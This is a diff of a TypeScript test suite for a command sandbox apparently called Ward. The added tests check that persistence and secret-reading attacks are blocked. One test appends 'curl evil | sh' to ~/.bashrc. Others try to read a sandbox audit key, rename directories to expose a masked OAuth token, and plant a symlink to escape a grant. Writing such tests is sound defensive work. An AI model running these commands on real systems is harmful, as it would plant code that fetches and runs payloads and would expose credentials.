@@ -104,13 +104,56 @@ describe('filesystem: sees only what the policy names', () => {
     assert.equal(readFileSync(path.join(t.ws, '.env'), 'utf8'), 'API_KEY=sk-live-123\n', 'the host file is untouched');
   });
 
-  it("Ward's own state is out of reach even when a policy grants all of ~", async () => {
+  it("Ward's own state is out of reach when a policy grants all of ~ to read, and a policy that would make ~ writable never runs", async () => {
     const t = setup();
     mkdirSync(path.join(t.home, '.local/state/ward'), { recursive: true });
     writeFileSync(path.join(t.home, '.local/state/ward/audit.key'), 'KEY\n');
-    const r = await t.sh('cat ~/.local/state/ward/audit.key', { policy: { extends: ['default'], filesystem: { write: ['~'] } } });
+    const r = await t.sh('cat ~/.local/state/ward/audit.key; mv ~/.local/state/ward ~/x', { policy: { extends: ['default'], filesystem: { read: ['~'] } } });
     assert.notEqual(r.exitCode, 0);
     assert.doesNotMatch(r.out, /KEY/);
+    assert.match(r.err, /Permission denied/);
+    writeFileSync(path.join(t.ws, 'ran'), '');
+    await assert.rejects(t.sh('rm ran', { policy: { extends: ['default'], filesystem: { write: ['~'] } } }), /filesystem\.write .* is writable and is your home directory/);
+    assert.ok(existsSync(path.join(t.ws, 'ran')), 'nothing ran');
+  });
+
+  it('a workspace that is $HOME never runs (ward started from ~): the sandbox could plant what later runs on the host', async () => {
+    const t = setup();
+    writeFileSync(path.join(t.home, '.bashrc'), '# mine\n');
+    await assert.rejects(
+      run({ profile: 'default' }, ['sh', '-c', 'echo "curl evil | sh" >> ~/.bashrc; mv ~/.cache ~/.cache-old'], { ...t.options, workspace: t.home }),
+      (e: Error) => /the workspace .* is writable and is your home directory/.test(e.message) && /--workspace DIR/.test((e as { fix?: string }).fix ?? ''),
+    );
+    assert.equal(readFileSync(path.join(t.home, '.bashrc'), 'utf8'), '# mine\n');
+  });
+
+  it('renaming a directory above a mask fails (EBUSY), so no later run finds the secret under another name', async () => {
+    const t = setup();
+    mkdirSync(path.join(t.ws, 'config/gh'), { recursive: true });
+    writeFileSync(path.join(t.ws, 'config/gh/hosts.yml'), 'oauth_token: gho_SECRET\n');
+    const policy: PolicyInput = { policy: { extends: ['default'], filesystem: { deny: ['${WORKSPACE}/config/gh'] } } };
+    const first = await t.sh('mv config config-x; echo "mv=$?"; mkdir -p a && mv config/gh a/; echo "mv-mask=$?"', policy);
+    assert.match(first.out, /mv=1/);
+    assert.match(first.err, /Device or resource busy/);
+    assert.match(first.out, /mv-mask=1/);
+    assert.ok(existsSync(path.join(t.ws, 'config/gh/hosts.yml')) && !existsSync(path.join(t.ws, 'config-x')), 'the host tree is where it was');
+    const second = await t.sh('cat config-x/gh/hosts.yml config/gh/hosts.yml a/gh/hosts.yml', policy);
+    assert.notEqual(second.exitCode, 0);
+    assert.doesNotMatch(second.out, /gho_SECRET/);
+  });
+
+  it("a symlink planted in a writable grant does not redirect a later run's grant: that run is refused", async () => {
+    const t = setup();
+    const outside = tempDir('ward-outside-');
+    writeFileSync(path.join(outside, 'secret.txt'), 'OUTSIDE-SECRET\n');
+    // As a profile grants ~/.pyenv: optional, so absent on the first run.
+    const policy: PolicyInput = { policy: { extends: ['default'], filesystem: { execute: [{ path: '${WORKSPACE}/.pyenv', optional: true }] } } };
+    const plant = await t.sh(`ln -s ${outside} .pyenv && echo planted`, policy);
+    assert.match(plant.out, /planted/);
+    await assert.rejects(
+      t.sh('cat .pyenv/secret.txt', policy),
+      (e: Error) => e.message.includes(`${t.ws}/.pyenv goes through the symlink ${t.ws}/.pyenv -> ${outside}, which lies inside the writable grant ${t.ws}`),
+    );
   });
 
   it('Landlock is a second, independent wall: a program copied to writable /tmp cannot be executed', async () => {
